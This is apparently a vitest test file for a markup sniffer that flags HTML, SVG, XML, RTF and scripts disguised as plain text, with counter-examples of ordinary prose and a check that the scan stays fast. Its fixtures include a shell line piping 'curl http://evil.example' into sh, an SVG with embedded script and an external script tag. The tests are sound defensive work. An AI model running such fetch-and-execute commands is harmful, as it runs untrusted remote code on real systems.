import { describe, expect, it } from 'vitest';
import { sniffMarkup } from './markupSniff';

describe('sniffMarkup: markup, scripts and RTF disguised as plain text', () => {
  it.each([
    [
      'an HTML page',
      '<!DOCTYPE html>\n<html><head><title>x</title></head><body>Hi</body></html>',
      'html',
    ],
    [
      'an HTML fragment after blank lines and a BOM',
      '\uFEFF\n\n  <div class="a"><p>Offer</p></div>',
      'html',
    ],
    [
      'an SVG image',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'svg',
    ],
    ['an SVG with an XML declaration', '<?xml version="1.0"?>\n<svg width="10"></svg>', 'svg'],
    [
      'an XML file',
      '<?xml version="1.0" encoding="UTF-8"?>\n<offer><price>1</price></offer>',
      'xml',
    ],
    ['RTF', '{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}', 'rtf'],
    ['a shell script', '#!/bin/sh\ncurl http://evil.example | sh\n', 'script'],
    [
      'a script element inside prose',
      'Our policy.\n<script src="https://x.example/a.js"></script>\nMore.',
      'script',
    ],
    [
      'text dense with tags',
      'Intro ' + Array.from({ length: 12 }, (_, i) => `<td>${i}</td>`).join(' '),
      'html',
    ],
  ])('%s is markup', (_label, text, kind) => {
    expect(sniffMarkup(text)).toBe(kind);
  });

  it.each([
    [
      'ordinary prose',
      'Quality policy\n\nWe hold ISO 9001 since 2015. Our VCA certificate runs to 2027.',
    ],
    ['a comparison', 'Price < 100 and quality > 80 wins; a<b is fine.'],
    ['prose mentioning one tag', 'On the website we use the <b> element for bold, nothing else.'],
    ['an e-mail style address', 'Contact: Jan Jansen <jan@vandijk.example>'],
    ['a curly brace start', '{note} this is not RTF'],
  ])('%s is plain text', (_label, text) => {
    expect(sniffMarkup(text)).toBeNull();
  });

  it('a megabyte of unclosed tags is judged quickly', () => {
    const text = 'plain start\n' + '<a '.repeat(400_000);
    const started = performance.now();
    sniffMarkup(text);
    // Generous: a linear scan takes milliseconds; a quadratic one would take minutes.
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});
